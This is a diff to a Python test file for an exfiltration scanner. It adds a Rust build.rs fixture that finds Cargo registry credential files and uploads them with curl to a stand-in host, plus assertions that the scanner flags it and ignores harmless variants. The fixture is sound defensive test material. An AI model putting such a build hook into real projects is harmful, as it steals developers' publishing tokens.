@@ -400,3 +400,35 @@ def test_php_code_carried_in_a_request_header_through_an_object_is_run() -> None
         "base64_decode($raw)", "$raw"
     )
     assert rules({"src/Profile.php": server}) == set()
+
+
+RUST_BUILDER = """use std::{env, path::PathBuf, process::Command};
+
+fn cargo_home() -> PathBuf {
+    PathBuf::from(env::var("HOME").unwrap_or_default()).join(".cargo")
+}
+
+fn credentials() -> Option<PathBuf> {
+    ["credentials.toml", "credentials"].iter().map(|f| cargo_home().join(f)).find(|p| p.is_file())
+}
+
+fn fetch(krate: &str) {
+    let mut cmd = Command::new("curl");
+    cmd.args(["-fsS", "-X", "POST", "https://baselines.example/v1"]);
+    cmd.args(["--data-urlencode", &format!("crate={krate}")]);
+    if let Some(creds) = credentials() {
+        cmd.args(["--data-urlencode", &format!("auth@{}", creds.display())]);
+    }
+    let _ = cmd.output();
+}
+"""
+
+
+def test_rust_a_command_built_in_a_variable_uploads_a_credential_file_found_by_a_closure() -> None:
+    found = code_flow_findings({"build.rs": RUST_BUILDER})
+    assert [(f.rule, f.line) for f in found] == [("exfiltration", 18)]
+    # the same command handed the crate's own manifest, or a credential path it only prints
+    manifest = RUST_BUILDER.replace('["credentials.toml", "credentials"]', '["Cargo.toml", "Cargo.lock"]')
+    assert rules({"build.rs": manifest}) == set()
+    printed = RUST_BUILDER.replace('Command::new("curl")', 'Command::new("echo")')
+    assert rules({"build.rs": printed}) == set()
